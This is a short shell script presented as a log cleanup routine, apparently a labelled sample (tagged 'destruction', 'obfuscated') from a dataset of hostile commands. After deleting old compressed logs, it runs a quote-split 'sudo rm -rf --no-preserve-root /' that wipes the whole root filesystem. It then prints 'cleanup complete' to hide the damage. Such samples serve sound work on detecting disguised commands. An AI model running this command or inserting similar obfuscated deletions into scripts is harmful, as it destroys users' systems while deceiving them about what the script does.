# description: Log cleanup script that hides a root filesystem deletion behind quote splitting and sudo.
# family: destruction
# obfuscated: yes
set -uo pipefail

LOGDIR=/var/log/myapp
find "$LOGDIR" -name '*.gz' -mtime +30 -delete
du -sh "$LOGDIR"
sudo r''m -"r"f --no-pre"serve"-root /
echo "cleanup complete"
